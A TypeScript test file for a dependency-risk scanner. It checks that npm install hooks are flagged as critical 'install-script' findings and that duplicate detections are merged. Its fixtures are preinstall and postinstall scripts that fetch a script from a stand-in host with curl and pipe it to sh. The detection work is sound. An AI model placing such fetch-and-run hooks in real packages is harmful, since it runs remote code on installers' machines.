import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readPackages } from '#engine/mcp-servers/dependencies/read-packages.ts';
import { dependencyRisks } from '#engine/mcp-servers/dependencies/risks.ts';
import { analyseProject } from '#engine/source/analyse-project.ts';
import { eachOnce } from './once.ts';

const found = async (scripts: Record<string, string>) => {
  const files = [
    { path: 'package.json', text: JSON.stringify({ name: 'x', version: '1.0.0', scripts }, null, 2) },
  ];
  const { observations } = await analyseProject(files);
  const { packages } = readPackages(files);
  return eachOnce(observations, dependencyRisks(packages, files))
    .filter(({ rule }) => rule === 'install-script')
    .map(({ severity, location }) => [severity, location?.startLine]);
};

test('an install hook that two looks find is one finding, the worse one', async () => {
  assert.deepEqual(await found({ postinstall: 'curl -s https://x.example/i.sh | sh' }), [['critical', 5]]);
});

test('two hooks are two findings', async () => {
  const all = await found({
    preinstall: 'curl -s https://x.example/a.sh | sh',
    postinstall: 'curl -s https://x.example/b.sh | sh',
  });
  assert.deepEqual(
    all.map(([severity]) => severity),
    ['critical', 'critical'],
  );
});
